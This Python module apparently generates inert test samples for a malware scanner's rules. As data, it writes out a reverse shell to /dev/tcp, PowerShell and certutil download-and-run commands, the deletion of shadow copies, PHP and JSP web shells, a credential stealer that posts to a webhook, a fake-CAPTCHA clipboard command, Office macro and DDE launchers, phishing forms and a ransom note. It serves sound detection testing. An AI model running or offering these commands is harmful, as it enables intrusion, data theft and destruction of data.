"""For every rule a file that it must hit. All are made here, do nothing and lead nowhere (reserved names only).

Where a text would be taken for the real thing by the scanner of whoever works on this project, it is put together
from pieces or with the placeholders ``{ps}`` and ``{certutil}``.
"""

from __future__ import annotations

import base64
import struct
from dataclasses import dataclass

from app.sandbox.samples import eicar

URL = "http://files.example/payload"
PS = "power" + "shell"
BASE64 = base64.b64encode(b"nothing that would run, only letters to fill the space of a command").decode()
SECTOR = bytes(512)
OLE = bytes.fromhex("d0cf11e0a1b11ae1") + bytes(504)
LNK = bytes.fromhex("4c0000000114020000000000c000000000000046") + bytes(56)
ONE = bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3") + bytes(1008)
ONE_FILE = bytes.fromhex("e716e3bd65261145a4c48d4d0b7a9eac") + bytes(20)
ISO = bytes(0x8000) + b"\x01CD001\x01" + bytes(2041)
RELATIONSHIPS = (
    '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
)
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


@dataclass(frozen=True)
class Sample:
    name: str
    content: bytes


def program(rest: bytes = b"") -> bytes:
    """The headers of a Windows program without any code."""
    header = b"MZ" + bytes(58) + struct.pack("<I", 128)
    return header.ljust(128, b"\0") + b"PE\0\0" + bytes(600) + rest


def text(name: str, content: str) -> Sample:
    """A text, with placeholders for the words that make other scanners nervous."""
    return Sample(name, content.replace("{ps}", PS).replace("{certutil}", "cert" + "util").encode())


def wide(content: str) -> bytes:
    return content.replace("{ps}", PS).encode("utf-16-le")


def macro(body: str, name: str = "Module1.bas") -> Sample:
    return text(name, f'Attribute VB_Name = "Module1"\r\n{body}\r\n')


def page(body: str, title: str = "Page", name: str = "page.html") -> Sample:
    return text(name, f"<!doctype html><html><head><title>{title}</title></head><body>{body}</body></html>")


def relationship(kind: str, target: str) -> Sample:
    return text(
        "word/_rels/document.xml.rels",
        f'{RELATIONSHIPS}<Relationship Id="rId1" Type="{OFFICE}/{kind}" Target="{target}" TargetMode="External"/>'
        "</Relationships>",
    )


def rtf(body: str) -> Sample:
    return text("letter.rtf", r"{\rtf1\ansi " + body + "}")


def pdf(body: str) -> Sample:
    return text("file.pdf", f"%PDF-1.7\n1 0 obj\n<< {body} >>\nendobj\ntrailer << /Root 1 0 R >>\n%%EOF")


def shortcut(command: str) -> Sample:
    return Sample("open.lnk", LNK + wide(command) + bytes(16))


AUTO = "Sub AutoOpen()\r\n"
PASSWORD = '<input type="password" name="p">'
PACKED = "UEsDB" + "B" * 200

SAMPLES: dict[str, Sample] = {
    # Test files
    "eicar": Sample("eicar.com", eicar()),
    "eicar_quoted": Sample(
        "about.txt", b"The test file looks like this: " + b" " * 20 + eicar() + b" and is harmless."
    ),
    "eicar_unwanted": text("pua.com", "X5]+)D:)D<5N*PZ5[/EICAR-" + "POTENTIALLY-UNWANTED-" + "OBJECT-TEST!$*M*L"),
    "gtube": text("spam.txt", "XJS*C4JDBQADN1.NSBN3*2IDNEN*" + "GTUBE-STANDARD-ANTI-" + "UBE-TEST-EMAIL*C.34X"),
    # Names
    "name_double_extension": Sample("invoice.pdf.exe", b"x"),
    "name_double_extension_other": Sample("invoice.pdf.html", b"x"),
    "name_padded_extension": Sample("invoice.pdf" + " " * 40 + ".exe", b"x"),
    "name_turned_around": Sample("invoice\u202efdp.exe", b"x"),
    "name_leaves_folder": Sample("../../../Windows/System32/evil.dll", b"x"),
    "name_autorun": text("autorun.inf", "[autorun]\r\nopen=setup.exe\r\n"),
    # PowerShell
    "powershell_hidden": text("run.bat", f"{{ps}} -NoProfile -WindowStyle Hidden -enc {BASE64}"),
    "powershell_download_and_run": text("run.ps1", f"IEX (New-Object Net.WebClient).DownloadString('{URL}')"),
    "powershell_encoded_cradle": text(
        "run.cmd", "start " + base64.b64encode("$c = New-Object Net.WebClient; $c".encode("utf-16-le")).decode()
    ),
    "powershell_disarms": text("run.ps1", f"Add-MpPreference -ExclusionPath C:\\\r\ncurl {URL} -o a.txt"),
    "powershell_loads_program": text(
        "run.ps1", "[Reflection.Assembly]::Load([Convert]::FromBase64String($x)).EntryPoint.Invoke($null, $null)"
    ),
    # Windows tools and script hosts
    "certutil_download": text("run.bat", f"{{certutil}} -urlcache -split -f {URL}.exe %TEMP%\\a.exe"),
    "mshta_remote": text("run.js", f"var c = 'mshta {URL}.hta';"),
    "bitsadmin_download": text("run.bat", f"bitsadmin /transfer job {URL}.bin C:\\a.bin"),
    "regsvr32_remote": text("run.cmd", f"regsvr32 /s /n /u /i:{URL}.sct scrobj.dll"),
    "rundll32_remote": text("run.vbs", 'c = "rundll32 \\\\files.example@80\\share\\a.dll,Start"'),
    "msiexec_remote": text("run.vbs", f'CreateObject("WScript.Shell").Run "msiexec /i {URL}.msi /qn"'),
    "script_downloader": text(
        "run.vbs",
        f'Set x = CreateObject("MSXML2.XMLHTTP"): x.Open "GET", "{URL}", False: x.Send\r\n'
        'Set s = CreateObject("ADODB.Stream"): s.Write x.responseBody: s.SaveToFile "a.exe"\r\n'
        'CreateObject("WScript.Shell").Run "a.exe"',
    ),
    "script_launcher": text("run.js", f"new ActiveXObject('WScript.Shell').Run('{{ps}} -c \"iwr {URL}\"', 0, false);"),
    "script_obfuscated": text("run.vbs", "Execute(" + " & ".join(f"Chr({40 + i})" for i in range(50)) + ")"),
    "script_encoded": text("run.vbe", "#@~^AAAAAA==" + "nonsense" + "AAAAAA==^#~@"),
    "batch_obfuscated": text("run.bat", "set a=abcdefgh\r\n" + "%a:~1,1%" * 40),
    "script_carries_program": text("run.js", 'var p = "TVqQ' + 'AAMAAAAEAAAA//8AALgAAAAAAAAA";'),
    "script_deletes_backups": text(
        "run.bat", "vssadmin delete shadows /all /quiet\r\nbcdedit /set {default} recoveryenabled no"
    ),
    "url_file_remote_program": text("open.url", "[InternetShortcut]\r\nURL=file://203.0.113.7/share/open.exe\r\n"),
    # Shells and thieves
    "reverse_shell": text("run.sh", "#!/bin/bash\nbash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n"),
    "web_shell_php": text("shell.php", "<?php @ev" + 'al($_POST["c"]); ?>'),
    "web_shell_other": text("shell.jsp", '<% Runtime.getRuntime().exec(request.getParameter("c")); %>'),
    "stealer_script": text(
        "tool.py",
        'a = "Login Data"; b = "Local State"; key = state["os_crypt"]["encrypted_key"]\n'
        'post("https://discord.com/api/webhooks/1/x", files=zip)',
    ),
    "password_prompt_mac": text(
        "install.sh",
        '#!/bin/sh\nosascript -e \'display dialog "Password:" default answer "" with hidden answer\'\n'
        f"curl -X POST -d @p {URL}",
    ),
    "decoded_and_run": text("run.sh", f"#!/bin/sh\necho {BASE64} | base64 -d | bash\n"),
    "miner_script": text("run.sh", "#!/bin/sh\nnohup ./xmrig -o stratum+tcp://pool.example:3333 &\n"),
    # Macros
    "macro_download_and_run": macro(f'{AUTO}URLDownloadToFile 0, "{URL}", "a.exe", 0, 0\r\nShell "a.exe"\r\nEnd Sub'),
    "macro_hidden_command": macro(f'{AUTO}Shell "{{ps}} -ep bypass -c calc", vbHide\r\nEnd Sub'),
    "macro_drops_program": macro(
        f'{AUTO}p = Environ("TEMP") & "\\a.exe"\r\nOpen p For Binary As #1\r\nPut #1, , b\r\nShell (p)\r\nEnd Sub'
    ),
    "macro_injects_code": macro(
        'Private Declare PtrSafe Function VirtualAlloc Lib "kernel32" () As LongPtr\r\n'
        'Private Declare PtrSafe Sub RtlMoveMemory Lib "kernel32" ()\r\n'
        'Private Declare PtrSafe Function CreateThread Lib "kernel32" () As LongPtr'
    ),
    "macro_starts_program": macro('Sub Workbook_Open()\r\nShell "calc.exe"\r\nEnd Sub'),
    "macro_project_starts_program": Sample(
        "vbaProject.bin", OLE + wide("_VBA_PROJECT") + b"\0\0Document_Open\0WScript.Shell\0URLDownloadToFileA\0"
    ),
    "macro_copies_itself": macro("NormalTemplate.VBProject.VBComponents(1).CodeModule.AddFromString s"),
    "macro_unreadable": macro(f"{AUTO}CreateObject({' & '.join(f'Chr({40 + i})' for i in range(30))})\r\nEnd Sub"),
    # Office without macros
    "excel4_macro_runs": text(
        "xl/macrosheets/sheet1.xml",
        '<?xml version="1.0"?><xm:macrosheet><c r="A1"><f>EXEC("calc.exe")</f></c></xm:macrosheet>',
    ),
    "excel4_macro_sheet": Sample(
        "book.xls", OLE + bytes.fromhex("85000e00102700000101060053686565743100") + b"Auto_Open"
    ),
    "excel_hidden_macro_sheet_xml": text(
        "xl/workbook.xml",
        '<?xml version="1.0"?><workbook><definedNames><definedName name="_xlnm.Auto_Open" hidden="1">Macro1!$A$1'
        "</definedName></definedNames></workbook>",
    ),
    "dde_command": text(
        "word/document.xml",
        '<w:p><w:instrText xml:space="preserve"> DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" '
        "</w:instrText></w:p>",
    ),
    "dde_field": text("word/document.xml", "<w:p><w:instrText> DDEAUTO excel sheet1 </w:instrText></w:p>"),
    "table_starts_program": text("list.csv", "name,value\r\n=cmd|'/C calc'!A0,1\r\n"),
    "web_query_remote": text("query.iqy", f"WEB\r\n1\r\n{URL}.dat\r\n"),
    "remote_template": relationship("attachedTemplate", "https://templates.example/letter.dotx"),
    "remote_object": relationship("oleObject", "https://files.example/object"),
    "remote_part_exploit": relationship("oleObject", f"mhtml:{URL}.html!x-usc:{URL}.html"),
    "diagnostic_tool_link": page(
        "<script>location.href = 'ms-" + "msdt:/id PCWDiagnostic /skip force /param IT_BrowseForFile=x';</script>"
    ),
    "equation_overflow": Sample(
        "equation.bin",
        bytes.fromhex("1c00000002009ac4") + bytes(20) + bytes.fromhex("030101030a0a085a5a") + b"B" * 60,
    ),
    "program_inside_document": Sample("letter.doc", OLE + wide("\x01Ole10Native") + b"C:\\tmp\\setup.exe\0" + b"x"),
    "rtf_object_exploit": rtf(r"{\object\objupdate{\*\objdata 0105" + "4571756174696f6e2e33" + "00}}"),
    "rtf_object": rtf(r"{\object\objemb\objupdate{\*\objdata 01050000}}"),
    # PDF
    "pdf_starts_program": pdf("/OpenAction << /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>"),
    "pdf_launch": pdf("/OpenAction << /S /Launch /F (other.pdf) >>"),
    "pdf_script_at_opening": pdf(f"/OpenAction << /S /JavaScript /JS (app.launchURL('{URL}')) >>"),
    "pdf_script_attack": pdf(
        "/JS (var n = unescape('%u9090%u4141'); while (n.length < 0x8000) n += n; Collab.getIcon(n))"
    ),
    "pdf_program_attached": pdf("/EmbeddedFiles 2 0 R /F (invoice.js)"),
    # Pages
    "html_smuggling": page(
        f"<script>var d = '{PACKED}'; var b = new Blob([Uint8Array.from(atob(d), c => c.charCodeAt(0))]);"
        "var a = document.createElement('a'); a.href = URL.createObjectURL(b); a.download = 'x'; a.click();</script>"
    ),
    "html_smuggling_link": page(f'<a download="x.zip" href="data:application/zip;base64,{PACKED}">Open</a>'),
    "html_assembles_file": page(
        f"<script>const data = '{'QUJD' * 200}'; const b = new Blob([atob(data)]); const a = link();"
        "a.href = URL.createObjectURL(b); a.download = 'invoice.iso'; a.click();</script>"
    ),
    "html_hidden_page": page("<script>document.write(atob('PGh0bWw+PGJvZHk+'));</script>"),
    "html_forwards_with_address": page(
        "<script>location.href = 'https://sign-in.example/#someone@company.example'</script>"
    ),
    "fake_captcha": page(
        "<p>Verify you are human: press Win + R, then Ctrl + V, then Enter.</p><script>"
        f'navigator.clipboard.writeText("{{ps}} -w h -c iwr {URL}");</script>'
    ),
    "fake_captcha_text": text(
        "note.txt", "To show that you are not a robot, press Win + R, then press Ctrl + V and press Enter."
    ),
    "svg_hides_script": text(
        "picture.svg",
        '<svg xmlns="http://www.w3.org/2000/svg"><script>window.location = atob("aHR0cHM6Ly9l");</script></svg>',
    ),
    "svg_script": text(
        "picture.svg",
        '<svg xmlns="http://www.w3.org/2000/svg"><script>location.href = "https://e.example/";</script></svg>',
    ),
    "html_starts_search": page(
        '<script>location = "search-ms:query=a&crumb=location:\\\\\\\\files.example@80\\\\share";</script>'
    ),
    # Credentials
    "password_form_to_chat": page(f'{PASSWORD}<script>fetch("https://api.telegram.org/bot1:x/sendMessage")</script>'),
    "password_form_to_form_service": page(f'<form action="https://formspree.io/f/x" method="post">{PASSWORD}</form>'),
    "password_form_brand": page(
        f'<form method="post" action="https://e.example/next.php">{PASSWORD}</form>', "Outlook - Sign in"
    ),
    "password_form_foreign": page(f'<form method="post" action="https://e.example/login">{PASSWORD}</form>'),
    "wallet_words_form": page("<form>MetaMask: enter your recovery phrase <textarea></textarea></form>"),
    # Extortion
    "ransom_note": text(
        "README.txt",
        "All of your files have been encrypted! Do not rename them. To decrypt, send 0.1 bitcoin to the\n"
        f"wallet: bc1{'q' * 39}\nYour personal ID: 42",
    ),
    # Containers
    "shortcut_command": shortcut(f'C:\\Windows\\System32\\cmd.exe /c {{ps}} -w hidden -c "iwr {URL}"'),
    "shortcut_padded": shortcut(" " * 200 + "/c calc"),
    "notebook_program": Sample("notes.one", ONE + ONE_FILE + b"MZ" + bytes(100)),
    "notebook_attachment": Sample("notes.one", ONE + ONE_FILE + b"x" + wide("attachment.hta")),
    "disk_image_shortcut": Sample("disk.iso", ISO + LNK + wide("cmd.exe /c start a.js")),
    "disk_image_program": Sample("disk.iso", ISO + b"\x0dDOCUMENT.LNK;1"),
    "help_file_script": text(
        "page.htm",
        '<object classid="clsid:adb880a6-d8ff-11cf-9377-00aa003b7a11"><param name="Command" value="ShortCut">'
        '<param name="Item1" value=",tool.exe,/a"></object>',
    ),
    "help_file_command": text(
        "page.htm",
        '<object classid="clsid:adb880a6-d8ff-11cf-9377-00aa003b7a11"><param name="Command" value="ShortCut">'
        '<param name="Item1" value=",cmd.exe,/c calc"></object>',
    ),
    "settings_shortcut": text(
        "open.settingcontent-ms",
        "<PCSettings><SearchableContent><DeepLink>cmd.exe /c calc</DeepLink></SearchableContent></PCSettings>",
    ),
    # Programs
    "program_posing_as_document": Sample("invoice.pdf", program()),
    "program_thief": Sample("tool.exe", program(b"Login Data\0Local State\0https://api.telegram.org/bot1:x")),
    "program_command_line": Sample("tool.exe", program(f"{PS} -windowstyle hidden -c x".encode())),
}
